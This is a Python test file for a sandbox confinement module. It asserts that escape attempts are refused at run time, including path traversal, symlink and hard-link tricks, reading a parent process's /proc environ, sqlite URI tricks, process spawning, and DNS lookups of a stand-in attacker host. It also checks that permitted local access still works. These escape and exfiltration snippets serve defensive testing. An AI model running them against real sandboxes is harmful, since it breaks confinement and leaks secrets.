"""The sandbox's process, shut in: what it tries to reach is refused at run time, whatever its code says."""

import subprocess
import sys
from pathlib import Path

import pytest

from portal.shared.environment import ROOT
from tests.support.valkey import ValkeyServer

NO_DATABASE = "sqlite:////no/such/folder/x.db"

SHUT_IN = """
from pathlib import Path
from portal.sandbox.confinement import confine
data = Path({data!r})
confine(data=data, folder=data / "sandbox", database_url={url!r}, limits_url={limits_url!r})
{code}
print("done")
"""


def attempt(
    folder: Path, code: str, *, url: str = "sqlite:///x.db", limits_url: str = ""
) -> subprocess.CompletedProcess[str]:
    data = folder / "data"
    data.mkdir()
    for side in ("people", "sandbox"):
        (data / side).mkdir(exist_ok=True)
        (data / side / "file").write_text(side)
    return subprocess.run(
        [sys.executable, "-P", "-c", SHUT_IN.format(data=str(data), url=url, limits_url=limits_url, code=code)],
        env={"PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.mark.parametrize(
    "code",
    [
        "import portal.people.app",
        "import importlib; importlib.import_module('portal.' + 'people')",
        "__import__('portal.separation.check')",
        "import smtplib",
        "import boto3",
        "open(data / 'people' / 'file')",
        "(data / 'people' / 'file').read_text()",
        "open(str(data / 'sandbox' / '..' / 'people' / 'file'))",
        "import os; os.symlink(data / 'people', data / 'sandbox' / 'door'); open(data / 'sandbox' / 'door' / 'file')",
        "import os; os.listdir(data / 'people')",
        "import os; os.rename(data / 'people' / 'file', data / 'sandbox' / 'mine')",
        "import os; os.link(data / 'people' / 'file', data / 'sandbox' / 'mine')",
        "import sqlite3; sqlite3.connect(data / 'people' / 'people.db')",
        "import sqlite3; sqlite3.connect(f'file:{data}/people/people.db?mode=ro', uri=True)",
        "import sqlite3; sqlite3.connect('file:' + str(data).replace('-', '%2D') + '/people/file?mode=ro', uri=True)",
        "import sqlite3; sqlite3.connect(f'file://localhost{data}/people/file?mode=ro', uri=True)",
        "import os; os.open('people/file', os.O_RDONLY, dir_fd=os.open(data, os.O_RDONLY))",
        "import os; os.open('data/people/file', os.O_RDONLY, dir_fd=os.open(data.parent, os.O_RDONLY))",
        "import os; open(f'/proc/{os.getppid()}/environ')",
        "import portal; open(portal.__path__[0] + '/people/settings.py')",
        "import ctypes; ctypes.CDLL(None)",
        "import socket; socket.create_connection(('127.0.0.1', 9), timeout=1)",
        "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9))",
        "import socket; socket.getaddrinfo('secret-words.attacker.example', 80)",
        "import socket; socket.gethostbyname('secret-words.attacker.example')",
        "import subprocess; subprocess.run(['true'])",
        "import os; os.system('true')",
        "import os; os.fork()",
    ],
)
def test_what_leads_across_the_wall_is_refused(tmp_path: Path, code: str) -> None:
    done = attempt(tmp_path, code)
    assert "done" not in done.stdout
    assert "OutOfBounds" in done.stderr or "The sandbox cannot import" in done.stderr, done.stderr


def test_its_own_folder_and_the_project_stay_open(tmp_path: Path) -> None:
    code = "import sqlite3, json, portal.sandbox.app; sqlite3.connect(data / 'sandbox' / 'own.db').execute('select 1')"
    done = attempt(tmp_path, code + "; assert (data / 'sandbox' / 'file').read_text() == 'sandbox'")
    assert done.stdout.strip() == "done", done.stderr


def test_it_can_tell_its_own_memory_and_open_files(tmp_path: Path) -> None:
    code = (
        "from prometheus_client import CollectorRegistry, ProcessCollector, generate_latest; registry = "
        "CollectorRegistry(); ProcessCollector(registry=registry); text = generate_latest(registry); "
        "assert b'process_open_fds ' in text and b'process_resident_memory_bytes ' in text, text"
    )
    done = attempt(tmp_path, code)
    assert done.stdout.strip() == "done", done.stderr


@pytest.mark.parametrize(
    ("url", "may"),
    [
        ("postgresql+psycopg://app@localhost:9/sandbox", True),
        ("postgresql+psycopg://app@127.0.0.1:9/sandbox", True),
        ("postgresql+psycopg://app@/sandbox?host=other:5432&host=127.0.0.1:9", True),
        ("postgresql+psycopg://app@127.0.0.1/sandbox", False),
        ("postgresql+psycopg://app@/sandbox?host=/run/postgresql", False),
        ("sqlite:///x.db", False),
    ],
)
def test_with_a_database_server_of_its_own_it_may_connect_there_alone(tmp_path: Path, url: str, may: bool) -> None:
    code = (
        "import socket\ntry: socket.create_connection(('127.0.0.1', 9), timeout=1)\nexcept ConnectionRefusedError: pass"
    )
    done = attempt(tmp_path, code, url=url)
    assert (done.stdout.strip() == "done") is may, done.stderr
    assert ("OutOfBounds" in done.stderr) is not may


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_with_a_server_for_its_counters_it_reaches_that_one(tmp_path: Path, host: str) -> None:
    with ValkeyServer() as server:
        url = f"valkey://{host}:{server.port}/0"
        code = (
            "from portal.sandbox.web import SandboxCounter\n"
            "from portal.shared.counters import ValkeyCounters\n"
            f"counting = {{'server_url': {url!r}, 'database_url': {NO_DATABASE!r}}}\n"
            "assert ValkeyCounters(prefix='x', row=SandboxCounter, **counting).incr('k', 60) == 1"
        )
        done = attempt(tmp_path, code, limits_url=url)
        assert done.stdout.strip() == "done", done.stderr
        assert server.client.get("x:k") == b"1"


@pytest.mark.parametrize(
    "code",
    [
        "socket.create_connection(('127.0.0.1', PORT + 1), timeout=1)",
        "socket.create_connection(('127.0.0.2', PORT), timeout=1)",
        "socket.create_connection(('::1', PORT), timeout=1)",
        "socket.socket(socket.AF_UNIX).connect('/run/valkey.sock')",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', PORT))",
        "socket.getaddrinfo('secret-words.attacker.example', PORT)",
        "socket.getaddrinfo('secret-words.127.0.0.1', PORT)",
    ],
)
def test_with_a_server_for_its_counters_it_reaches_nothing_else(tmp_path: Path, code: str) -> None:
    done = attempt(tmp_path, f"import socket\n{code.replace('PORT', '6379')}", limits_url="valkey://127.0.0.1/0")
    assert "done" not in done.stdout
    assert "OutOfBounds" in done.stderr, done.stderr


def test_a_file_without_a_name_lies_in_its_own_folder(tmp_path: Path) -> None:
    code = "import tempfile; file = tempfile.TemporaryFile(); file.write(b'an answer'); assert tempfile.gettempdir()"
    done = attempt(tmp_path, code + " == str(data / 'sandbox')")
    assert done.stdout.strip() == "done", done.stderr
